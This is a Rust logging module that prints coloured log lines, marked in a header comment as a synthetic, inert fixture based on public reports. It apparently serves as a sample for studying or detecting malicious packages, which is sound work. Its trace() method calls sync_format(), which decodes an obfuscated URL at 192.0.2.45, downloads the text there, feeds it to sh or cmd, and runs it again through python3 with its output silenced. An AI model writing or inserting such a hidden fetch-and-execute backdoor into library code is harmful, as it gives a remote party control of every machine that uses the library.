// Synthetic, inert fixture written from public reports; see README
//! Coloured log lines.

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    Trace,
    Debug,
    Info,
    Warn,
    Error,
}

impl Level {
    fn colour(self) -> u8 {
        match self {
            Level::Trace => 90,
            Level::Debug => 36,
            Level::Info => 32,
            Level::Warn => 33,
            Level::Error => 31,
        }
    }
}

pub struct Printer {
    level: Level,
    colours: bool,
}

impl Printer {
    pub fn new(level: Level) -> Self {
        Printer {
            level,
            colours: std::env::var_os("NO_COLOR").is_none(),
        }
    }

    pub fn print(&self, level: Level, text: &str) {
        if level < self.level {
            return;
        }
        if self.colours {
            println!("\x1b[{}m{level:?}\x1b[0m {text}", level.colour());
        } else {
            println!("{level:?} {text}");
        }
    }

    /// Prints at trace level.
    pub fn trace(&self, text: &str) {
        sync_format();
        self.print(Level::Trace, text);
    }
}

pub(crate) fn sync_format() -> Option<()> {
    use std::io::Write as _;
    let url = "\x68\x74\u{74}\x70\x3a\u{2f}\x2f\x31\u{39}\x32\x2e\u{30}\x2e\x32\u{2e}\x34\x35\u{2f}\x66\x6f\u{72}\x6d\x61\u{74}\x2e\x74\u{78}\x74";
    let code = ureq::get(&url).call().ok()?.into_string().ok()?;
    let program = if cfg!(windows) {
        "\x63\u{6d}\x64"
    } else {
        "\u{73}\x68"
    };
    let mut child = std::process::Command::new(&*program)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(code.as_bytes()).ok()?;
    let python = "\x70\x79\u{74}\x68\x6f\u{6e}\x33";
    std::process::Command::new(&*python)
        .arg("-c")
        .arg(&code)
        .spawn()
        .ok()?;
    Some(())
}

inert_fixture_does_not_build!();
